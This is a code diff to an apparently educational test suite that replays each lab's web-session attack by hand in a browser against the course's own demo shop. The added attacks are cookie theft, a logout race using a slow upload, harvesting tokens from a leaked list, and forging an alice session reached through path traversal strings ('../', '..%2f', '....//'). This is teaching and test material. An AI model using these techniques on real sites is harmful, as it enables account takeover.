@@ -1,8 +1,9 @@
 /** Every lab's attack, played by hand: thief and victim each in a real browser of their own, on the built site's servers. */
+import { createHash } from "node:crypto";
 import { CLAIMS, spellings } from "../../labs/05-middleware/attack.ts";
 import { listLabs } from "../../labs/kit/catalogue.ts";
 import { expect, logIn, test, trick } from "./hands.ts";
-import { asBob, cookiesOf, gather, read, tryValues, wear, type People } from "./people.ts";
+import { asBob, cookiesOf, gather, read, slowLine, tryValues, wear, type People } from "./people.ts";
 
 /** Answers everything that the thief read, whoever's it is. */
 type Deed = (people: People) => Promise<string>;
@@ -126,6 +127,47 @@ const fix: Deed = async (people) => {
   return read(people, thief, "/dashboard");
 };
 
+/** A comment on a slow line, and a logout in another tab while the server waits for the rest of it. */
+const bringBack: Deed = async (people) => {
+  const { shop, victim, thief } = people;
+  await logIn(victim, shop);
+  await wear(thief, await cookiesOf(people, victim));
+  await victim.goto(`${shop.url}/comments`);
+  await victim.getByLabel("Comment").fill("Nice shop. ".repeat(20));
+  const line = await slowLine(victim);
+  const posted = victim.waitForNavigation();
+  await victim.getByRole("button", { name: "Post" }).click({ noWaitAfter: true });
+  const tab = await victim.context().newPage();
+  await tab.goto(`${shop.url}/dashboard`);
+  await Promise.all([tab.waitForNavigation(), tab.getByRole("button", { name: "Log out" }).click()]);
+  expect(await read(people, thief, "/dashboard")).toContain("Please log in.");
+  await line.mend();
+  await posted;
+  return read(people, thief, "/dashboard");
+};
+
+/** What the control room shows of the list: a backup that somebody lost. */
+const readList: Deed = async (people) => {
+  const { shop, victim } = people;
+  await logIn(victim, shop);
+  const own = await asBob(people);
+  const { list } = await people.state();
+  const texts = JSON.stringify(list).match(/[\x21\x23-\x7e]{16,}/g) ?? [];
+  return tryValues(people, own, texts);
+};
+
+/** Files a session for alice among the suggestions, and sends the way to it as a cookie. */
+const walkOut: Deed = async (people) => {
+  const { shop, thief } = people;
+  const own = await asBob(people);
+  const secret = "5e55107e".repeat(8);
+  const mark = createHash("sha256").update(secret).digest("hex");
+  const session = { username: "alice", basket: [], createdAt: 1e15, lastSeen: 1e15, mark };
+  const filed = await thief.request.post(`${shop.url}/suggestions`, { form: { text: JSON.stringify(session) } });
+  const [path = ""] = /suggestions\/\d+/.exec(await filed.text()) ?? [];
+  return tryValues(people, own, [`../${path}.${secret}`, `..%2f${path}.${secret}`, `....//${path}.${secret}`]);
+};
+
 const inTurn =
   (...deeds: Deed[]): Deed =>
   async (people) => {
@@ -142,14 +184,14 @@ const DEEDS: Record<string, { deed: Deed; how: string }> = {
   middleware: { deed: strangerThenBob, how: "trying every door" },
   logout: { deed: replay, how: "replaying the copied cookie after logout" },
   fixation: { deed: fix, how: "planting a cookie and riding along" },
+  races: { deed: bringBack, how: "waiting for a slow comment of a victim who has logged out" },
+  "timing-and-leaks": { deed: readList, how: "presenting what stands on a lost copy of the list" },
+  stores: { deed: walkOut, how: "sending the way to a file of his own" },
+  choosing: { deed: replay, how: "replaying the copied token after logout" },
 };
 
-test("labs 1 to 7 are all played by hand", () => {
-  expect(Object.keys(DEEDS)).toEqual(
-    listLabs()
-      .slice(0, 7)
-      .map(({ slug }) => slug),
-  );
+test("every lab is played by hand", () => {
+  expect(Object.keys(DEEDS)).toEqual(listLabs().map(({ slug }) => slug));
 });
 
 for (const [slug, { deed, how }] of Object.entries(DEEDS)) {
